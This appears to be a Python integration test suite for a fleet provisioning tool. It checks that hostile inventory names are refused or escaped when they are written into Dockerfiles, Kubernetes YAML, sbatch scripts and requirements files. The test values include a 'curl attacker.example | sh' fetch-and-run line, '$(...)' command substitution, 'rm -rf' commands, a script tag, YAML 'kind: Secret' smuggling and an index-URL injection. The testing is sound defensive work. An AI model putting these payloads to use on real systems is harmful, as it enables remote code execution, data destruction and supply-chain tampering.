"""Machine names from an inventory are embedded in Dockerfiles, Kubernetes Jobs, sbatch scripts and HTML pages: a
hostile name (a line break, shell or YAML syntax) never becomes an instruction, a key or a command of its own. Each
case runs the real command on the hostile file; the rules are in envpin.fleet.names and docs/hardening.md."""

from __future__ import annotations

import json
import re
import subprocess
from pathlib import Path

import yaml

from envpin.facts.host import Driver, Gpu, HostFacts, PythonInfo
from envpin.fleet.nodes import ClusterNode, MachineClass, group_classes
from envpin.fleet.slurm import ClassFiles, provision_script
from envpin.resolver.plan import Plan
from envpin.resolver.request import parse_request
from envpin.resolver.solve import solve
from envpin.resolver.target import make_target
from tests.integration.test_cli import envpin

FIXTURES = Path(__file__).parent.parent / "fixtures" / "kubernetes"
INJECTED = "evil\nRUN curl http://attacker.example/x | sh\nkind: Secret"
DOCKERFILE_INSTRUCTIONS = {"FROM", "RUN", "COPY", "ENV", "ARG", "USER"}


def _facts(name: str, gpu: str = "NVIDIA GeForce RTX 3090") -> dict:
    return {"name": name, "os": "linux", "arch": "x86_64", "python": {"version": "3.11"},
            "driver": {"version": "550.54.14"}, "gpus": [{"name": gpu}]}


def _one_line_refusal(result, *words: str) -> None:
    assert result.returncode == 2, result.stderr
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr, result.stderr
    for word in words:
        assert word in result.stderr, result.stderr
    assert "RUN curl" not in result.stdout + result.stderr.replace("\\nRUN curl", "")


def test_a_line_break_in_a_facts_name_is_refused_by_every_command_that_reads_the_inventory(tmp_path):
    inventory = tmp_path / "fleet.json"
    inventory.write_text(json.dumps([_facts(INJECTED)]))
    out = tmp_path / "out"
    for command in (["solve", "--targets", str(inventory)],
                    ["fleet", "manifests", "--targets", str(inventory), "--format", "dockerfile", "-o", str(out)],
                    ["fleet", "status", "--targets", str(inventory)],
                    ["matrix", "--framework", "torch", "--targets", str(inventory), "--format", "html"]):
        _one_line_refusal(envpin(*command), "targets[0].name", "control character")
    assert not out.exists()  # nothing half-written
    inventory.write_text(json.dumps([{**_facts("gpu-1"), "partition": "a\nRUN id"}]))
    _one_line_refusal(envpin("solve", "--targets", str(inventory)), "targets[0].partition")


def test_a_dockerfile_holds_odd_names_only_in_comments(tmp_path):
    names = ["$(touch /tmp/pwned)", "a b; rm -rf /", "<script>alert(1)</script>", "\\", "x\u2028RUN id"]
    inventory = tmp_path / "fleet.json"
    inventory.write_text(json.dumps([_facts(name) for name in names[:4]]))
    result = envpin("fleet", "manifests", "--targets", str(inventory), "--format", "dockerfile", "--no-lock", "-o",
                    str(tmp_path / "out"))
    assert result.returncode == 0, result.stderr
    [dockerfile] = (tmp_path / "out").glob("*/Dockerfile")
    text = dockerfile.read_text()
    continued = False
    for line in text.splitlines():
        if not continued and line and not line.startswith("#"):
            assert line.split()[0] in DOCKERFILE_INSTRUCTIONS, line
        continued = line.endswith("\\") and not line.startswith("#")
    for name in names[:3]:
        assert all(line.startswith("#") for line in text.splitlines() if name in line)
    # U+2028 is a line break to some readers: refused like "\n"
    inventory.write_text(json.dumps([_facts(names[4])]))
    _one_line_refusal(envpin("fleet", "manifests", "--targets", str(inventory), "--format", "dockerfile", "-o",
                             str(tmp_path / "out2")), "control character")


def _node_list(tmp_path: Path, **changes) -> Path:
    document = json.loads((FIXTURES / "lke-rtx4000-ada.nodes.json").read_text())
    node = document["items"][0]
    if "name" in changes:
        node["metadata"]["name"] = changes["name"]
    node["metadata"]["labels"].update(changes.get("labels", {}))
    path = tmp_path / "nodes.json"
    path.write_text(json.dumps(document))
    return path


def _kubernetes(tmp_path: Path, nodes: Path, *extra: str):
    return envpin("fleet", "manifests", "--targets", str(nodes), "--format", "kubernetes", "--image",
                  "registry.example/envpin", "--python", "3.12", "-o", str(tmp_path / "k8s"), *extra)


def test_a_kubernetes_node_name_is_held_to_rfc_1123(tmp_path):
    for name in (INJECTED, "Upper-Case", "a" * 254, "trailing-.x", "under_score"):
        result = _kubernetes(tmp_path, _node_list(tmp_path, name=name))
        _one_line_refusal(result, "metadata.name", "RFC 1123")
        assert not (tmp_path / "k8s").exists()
    result = _kubernetes(tmp_path, _node_list(tmp_path), "--namespace", "Default_NS")
    _one_line_refusal(result, "--namespace", "RFC 1123")


def test_hostile_label_values_are_refused_and_odd_ones_stay_values_in_the_job_yaml(tmp_path):
    # a pool label's value becomes the nodeSelector: one that Kubernetes would not hold is refused ...
    hostile = "766837\nkind: Secret\nmetadata: {name: stolen}"
    result = _kubernetes(tmp_path, _node_list(tmp_path, labels={"lke.linode.com/pool-id": hostile}))
    _one_line_refusal(result, "lke.linode.com/pool-id", "label value")
    assert not (tmp_path / "k8s").exists()
    result = _kubernetes(tmp_path, _node_list(tmp_path, labels={"kubernetes.io/hostname": "h\nkind: Secret"}))
    _one_line_refusal(result, "kubernetes.io/hostname", "label value")
    # ... and values that YAML would read as another type stay strings: the Jobs go through yaml.safe_dump
    result = _kubernetes(tmp_path, _node_list(tmp_path, labels={"kubernetes.io/hostname": "null",
                                                                  "lke.linode.com/pool-id": "1e3"}))
    assert result.returncode == 0, result.stderr
    for path in (tmp_path / "k8s").glob("*/*.yaml"):
        for document in yaml.safe_load_all(path.read_text()):
            assert document["kind"] == "Job" and set(document) == {"apiVersion", "kind", "metadata", "spec"}
            selector = document["spec"]["template"]["spec"]["nodeSelector"]
            assert selector["lke.linode.com/pool-id"] == "1e3"
            assert selector.get("kubernetes.io/hostname", "null") == "null"


def test_a_gpu_count_past_the_limit_is_one_line(tmp_path):
    for count in ("100000000000000000000", "9" * 5000, "257"):
        nodes = _node_list(tmp_path, labels={"nvidia.com/gpu.count": count})
        result = envpin("fleet", "status", "--targets", str(nodes), "--python", "3.12")
        assert result.returncode == 2, result.stderr
        assert result.stderr.count("\n") == 1 and "at most 256" in result.stderr
        assert len(result.stderr) < 400  # the 5,000 digits are not quoted back whole


def _class(names: list[str], group: str | None = "a100", gpu: str = "NVIDIA A100-SXM4-80GB") -> MachineClass:
    def node(name):
        return ClusterNode(name, HostFacts(os="linux", arch="x86_64", python=PythonInfo("3.11"),
                                           driver=Driver("550.54.15", None, "nvidia-smi"),
                                           gpus=(Gpu(0, gpu, "8.0"),)), group)
    [machine_class] = group_classes([node(name) for name in names])
    return machine_class


def test_slurm_names_outside_the_hostname_rule_are_refused_before_anything_is_written(tmp_path):
    for names, partition, word in ((["gpu-01", "gpu[02-03]"], "a100", "node"), (["gpu-01"], "a b", "partition"),
                                   (["$(id)"], "a100", "node")):
        inventory = tmp_path / "fleet.json"
        inventory.write_text(json.dumps([{**_facts(name), "partition": partition} for name in names]))
        result = envpin("fleet", "provision", "--slurm", "--no-submit", "--targets", str(inventory), "-o",
                        str(tmp_path / "out"), "--prefix-root", "/shared/envs")
        _one_line_refusal(result, word, "Slurm name")
        assert not (tmp_path / "out").exists()


def test_the_sbatch_script_escapes_a_gpu_name_with_a_line_break(database, tmp_path):
    # a facts file's GPU name reaches the script's "# Differs:" comments
    good = _class(["gpu-01", "gpu-02"])
    odd = _class(["gpu-03"], gpu="NVIDIA A100-SXM4-80GB\nrm -rf ~")
    machine_class = group_classes([*good.nodes, *odd.nodes])[0]
    plan = solve(database, make_target(database, good.facts), parse_request(["torch"], []))
    assert isinstance(plan, Plan)
    text = provision_script(machine_class, plan, ClassFiles(tmp_path / "a100", tmp_path / "reports"), "/shared/a100",
                            ["envpin"], False)
    assert "\nrm -rf" not in text and "\\nrm -rf ~" in text
    script = tmp_path / "check.sbatch"
    script.write_text(text)
    assert subprocess.run(["bash", "-n", str(script)], capture_output=True).returncode == 0
    commands = [line for line in text.splitlines() if line and not line.startswith("#")]
    assert not any(re.match(r"rm\b", line) for line in commands)


def test_a_line_break_in_a_project_conda_package_starts_no_line_of_the_written_files(tmp_path):
    (tmp_path / "environment.yml").write_text(
        'name: x\nchannels: [conda-forge]\ndependencies:\n  - python=3.11\n  - "numpy\\n--index-url http://attacker.example"'
        '\n  - pip\n  - pip:\n    - torch\n')
    target = ["--os", "linux", "--gpu", "RTX 3090", "--driver", "535.104.05", "--python", "3.11"]
    result = envpin("solve", "--project", str(tmp_path), *target, "-o", str(tmp_path / "requirements.txt"))
    assert result.returncode == 0, result.stderr
    lines = (tmp_path / "requirements.txt").read_text().splitlines()
    assert not any(line.startswith("--index-url") for line in lines)
    assert [line for line in lines if not line.startswith("#")] == [
        "--extra-index-url https://download.pytorch.org/whl/cu126", next(x for x in lines if x.startswith("torch=="))]
    result = envpin("solve", "--project", str(tmp_path), *target, "--format", "environment.yml")
    assert result.returncode == 0, result.stderr
    document = yaml.safe_load(result.stdout)
    assert "numpy\n--index-url http://attacker.example" in document["dependencies"]
    assert set(document) == {"name", "channels", "dependencies"}
